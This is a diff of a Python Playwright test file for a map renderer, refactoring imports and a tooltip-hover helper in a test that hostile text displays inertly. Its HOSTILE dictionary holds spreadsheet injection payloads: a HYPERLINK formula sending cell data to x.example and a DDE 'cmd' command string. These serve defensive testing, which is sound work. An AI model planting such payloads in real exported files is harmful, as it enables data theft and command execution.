@@ -1,39 +1,24 @@
 """Text that tries to run, in what the page shows when it is used: tips, filters, print, files, copied words."""
 
 import csv
-import importlib.util
 import json
 import re
 from pathlib import Path
-from types import ModuleType
 from typing import Any
 
 import pytest
 
+import hostile_texts
+import sample
 from geomap.render import draw_page
 from geomap.scene import SceneLayer, TypeSymbol
+from hostile_texts import assert_nothing_ran, hostile_scene, texts
+from map_on_screen import on_screen
 
 # Playwright talks to the browser that it started over local sockets; the page itself is offline.
 pytestmark = pytest.mark.enable_socket
 
-HERE = Path(__file__).parent
-
-
-def _load(name: str, path: Path) -> ModuleType:
-    spec = importlib.util.spec_from_file_location(name, path)
-    assert spec is not None
-    assert spec.loader is not None
-    module = importlib.util.module_from_spec(spec)
-    spec.loader.exec_module(module)
-    return module
-
-
-shown_texts = _load("hostile_page_texts", HERE / "test_page_text.py")
-browser, open_page, sample = shown_texts.browser, shown_texts.open_page, shown_texts.sample
-hostile_scene, texts, assert_nothing_ran = (
-    shown_texts.hostile_scene, shown_texts.texts, shown_texts.assert_nothing_ran,
-)  # fmt: skip
-HOSTILE = shown_texts.HOSTILE | {
+HOSTILE = hostile_texts.HOSTILE | {
     "formula": "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
     "plus": "+1+cmd|' /C calc'!A0",
     "tab and formula": "\t=1+1",
@@ -100,9 +85,8 @@ def test_in_every_view_it_is_text(open_page: Any, tmp_path: Path, text: str) -> 
 
 def check_tip(opened: Any, text: str) -> None:
     page = opened.page
-    box = page.locator(".folium-map").bounding_box()
     [pin] = page.evaluate("geomap.drawn('range')")
-    page.mouse.move(box["x"] + pin["px"][0], box["y"] + pin["px"][1])
+    page.mouse.move(*on_screen(page, pin["px"]))
     opened.wait_until("document.querySelector('.gm-tip bdi') !== null")
     assert texts(page, ".gm-tip bdi") == [one_line(text, 120)]
     tip = page.locator(".gm-tip").bounding_box()
